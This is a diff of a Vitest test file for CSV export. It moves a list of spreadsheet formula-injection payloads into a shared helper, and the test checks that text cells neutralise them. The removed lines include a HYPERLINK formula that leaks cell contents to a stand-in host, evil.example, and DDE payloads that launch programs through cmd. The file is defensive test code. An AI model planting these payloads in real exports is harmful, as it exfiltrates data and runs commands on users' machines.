@@ -2,19 +2,8 @@ import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { csvLine, fileSlug, formatCell, formatNumber, neutralizeText } from '../../../lib/export/cells';
 import { csvChunks, type ExportColumn } from '../../../lib/export/table';
+import { INJECTION_PAYLOADS } from '../../helpers/payloads';
 
-export const INJECTION_PAYLOADS = [
-  '=1+1',
-  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-  '+cmd|\' /C calc\'!A0',
-  '-2+3',
-  '@SUM(A1:A9)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '\0=1+1',
-  "=cmd|' /C notepad'!'A1'",
-];
 
 describe('CSV cells', () => {
   it('neutralizes every formula payload in text cells', () => {
